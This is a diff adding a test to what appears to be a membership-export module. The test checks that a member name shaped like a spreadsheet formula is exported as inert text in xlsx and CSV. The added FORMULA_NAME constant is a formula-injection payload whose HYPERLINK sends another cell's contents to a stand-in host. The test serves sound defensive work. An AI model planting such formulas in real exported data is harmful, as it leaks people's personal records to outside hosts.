@@ -111,3 +111,32 @@ def test_export_page_matrix(world: Any, numbers: list[str]) -> None:
     )
     assert responses["sibling"].status_code == 404
     assert "王兰芳" in body(responses["ancestor"])
+
+
+FORMULA_NAME = '=HYPERLINK("//x"&INDIRECT("G"&ROW()),"点此")'
+
+
+def test_a_formula_looking_name_is_exported_as_text(world: Any) -> None:
+    """A name that a spreadsheet would evaluate (stored by the factory, past the name check) stays text: a string
+    cell in the workbook, never a formula, and a ``'``-prefixed cell in the CSV file."""
+    import csv
+
+    from openpyxl import load_workbook
+
+    from gonghui.members.tests.factories import MemberFactory
+
+    MemberFactory.create(unit=world.child, name=FORMULA_NAME)
+    actor = world.actor("same_with", EXPORT_MEMBER)
+
+    result = export_members(actor=actor, unit=world.child, fmt="xlsx")
+    assert result.handle is not None
+    sheet = load_workbook(result.handle).worksheets[0]
+    cell = sheet.cell(row=3, column=2)
+    assert cell.data_type == "s"
+    assert cell.value == FORMULA_NAME
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+
+    result = export_members(actor=actor, unit=world.child, fmt="csv")
+    assert result.chunks is not None
+    rows = list(csv.reader(io.StringIO(b"".join(result.chunks).decode("utf-8-sig"))))
+    assert rows[2][1] == "'" + FORMULA_NAME
